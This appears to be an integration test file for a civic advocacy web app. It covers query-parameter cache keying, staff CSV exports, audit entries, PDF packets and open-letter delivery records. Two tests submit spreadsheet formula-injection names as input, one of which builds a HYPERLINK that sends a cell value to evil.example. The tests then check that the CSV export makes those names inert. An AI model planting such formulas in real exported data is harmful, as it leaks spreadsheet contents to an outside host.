// Audit 9 over HTTP, on one production server: the page cache keys on the query parameters a page
// reads (a parameter it ignores cannot bust the cache), and a staff CSV export neutralises a name
// that starts like a spreadsheet formula.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseHtml } from "~/tests/helpers/html-page";
import { startAppServer } from "~/tests/helpers/app-server";
import type { AppServer } from "~/tests/helpers/app-server";
import { application, csrfTokenOf, formStampOf, post, signInOverHttp } from "~/tests/helpers/http-session";
import { findLink, startSmtpSink } from "~/tests/helpers/smtp-sink";
import type { SmtpSink } from "~/tests/helpers/smtp-sink";

describe("privacy and exports over HTTP", () => {
  let app: AppServer;
  let sink: SmtpSink;
  beforeAll(async () => {
    sink = await startSmtpSink();
    app = await startAppServer({ SMTP_URL: sink.url, ADMIN_EMAIL: "admin@example.org" });
  });
  afterAll(async () => {
    await app?.stop();
    await sink?.close();
  });

  const page = async (path: string) => {
    const res = await fetch(`${app.url}${path}`);
    const html = await res.text();
    return { cache: res.headers.get("x-page-cache"), html, text: parseHtml(html).text };
  };

  it("serves /?utm_source=… from the cache entry of /, whatever the parameter's value", async () => {
    const home = await page("/");
    for (const n of [1, 2, 3]) {
      const tracked = await page(`/?utm_source=mail-${n}&fbclid=${n}`);
      expect(tracked.cache).toBe("HIT");
      expect(tracked.html).toBe(home.html);
    }
  });

  it("keeps apart the pages of different ZIP codes, in any parameter order", async () => {
    const syracuse = await page("/act?zip=13202&utm_source=a");
    const manhattan = await page("/act?zip=10001");
    expect(syracuse.text).toContain("Your members of Congress for ZIP 13202");
    expect(manhattan.text).toContain("Your members of Congress for ZIP 10001");
    expect((await page("/act?utm_medium=b&zip=13202")).cache).toBe("HIT");
    // The page was made without the parameter it ignores: its links and form do not carry it.
    expect(syracuse.html).not.toContain("utm_source");
    const campaign = await page("/act/residency-shortage-act?zip=10001&district=NY-12");
    expect((await page("/act/residency-shortage-act?district=NY-12&ref=x&zip=10001")).cache).toBe("HIT");
    expect(campaign.html).not.toContain("ref=x");
  });

  it("exports a name that starts like a formula as inert text in the staff directory's CSV", async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&B2,"Open")';
    expect((await post(app, "/join/apply", application("formula@example.org", { name: hyperlink }))).status).toBe(200);
    const staff = await signInOverHttp(app, sink, "admin@example.org");
    const res = await fetch(`${app.url}/admin/applications.csv?status=all`, { headers: { cookie: staff } });
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&B2,""Open"")"`);
    const row = (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.email === "formula@example.org");
    expect(row?.name).toBe(`'${hyperlink}`);
  });

  it("exports an open letter's signatures as inert CSV, audited, and prints its packet as PDF", async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/","Open")';
    const signed = await post(app, "/letters/aamc", {
      rendered: await formStampOf(app, "/letters/aamc"),
      name: hyperlink,
      email: "formula-signer@example.org",
      city: "Austin",
      zip: "78701",
      signerRole: "physician",
      showName: "on",
    });
    expect(signed.headers.get("location")).toBe("/letters/aamc/check-email");
    const mail = await sink.waitFor((m) => m.to.includes("formula-signer@example.org"));
    const token = new URL(findLink(mail, `${app.url}/letters/confirm?token=`)).searchParams.get("token")!;
    expect((await post(app, "/letters/confirm", { token })).headers.get("location")).toBe("/letters/aamc/thanks");

    const staff = await signInOverHttp(app, sink, "admin@example.org");
    const res = await fetch(`${app.url}/admin/open-letters/aamc/signatures.csv?state=TX&role=physician`, { headers: { cookie: staff } });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="aamc-signatures-/);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([expect.objectContaining({ name: `'${hyperlink}`, email: "formula-signer@example.org", city: "Austin", state: "TX", credential: "physician", status: "confirmed" })]);
    const audit = parseHtml(await (await fetch(`${app.url}/admin/audit?action=open-letter.export`, { headers: { cookie: staff } })).text()).text;
    expect(audit).toContain("admin@example.org");
    expect(audit).toContain("aamc");

    const pdf = await fetch(`${app.url}/admin/open-letters/aamc/packet.pdf`, { headers: { cookie: staff } });
    expect(pdf.status).toBe(200);
    expect(pdf.headers.get("content-type")).toBe("application/pdf");
    expect(
      Buffer.from(await pdf.arrayBuffer())
        .subarray(0, 5)
        .toString(),
    ).toBe("%PDF-");
    const packet = parseHtml(await (await fetch(`${app.url}/admin/open-letters/aamc/packet`, { headers: { cookie: staff } })).text()).text;
    expect(packet).toContain("1 person signed this letter");
    expect(packet).toContain("1 physician");
    expect(packet).not.toContain("formula-signer@example.org");
  });

  it("records an open letter's delivery; the public page then says so, and offers share previews", async () => {
    const staff = await signInOverHttp(app, sink, "admin@example.org");
    const csrf = await csrfTokenOf(app, "/admin/open-letters/ecfmg", staff);
    const missing = await post(app, "/admin/open-letters/ecfmg", { csrf, recipient: "", deliveredOn: "2026-13-45", method: "email" }, staff);
    expect(missing.status).toBe(400);
    const delivered = await post(app, "/admin/open-letters/ecfmg", { csrf, recipient: "the ECFMG", deliveredOn: "2026-03-12", method: "email", note: "" }, staff);
    expect(delivered.status).toBe(302);
    const publicPage = await fetch(`${app.url}/letters/ecfmg`);
    const html = await publicPage.text();
    expect(parseHtml(html).text).toContain("Delivered to the ECFMG on March 12, 2026.");
    expect(parseHtml(html).text).toContain("Be among the first to sign.");
    expect(html).toContain(`<meta property="og:image" content="${app.url}/share-card.png"/>`);
    expect(html).toContain('<meta name="twitter:card" content="summary_large_image"/>');
  });
});
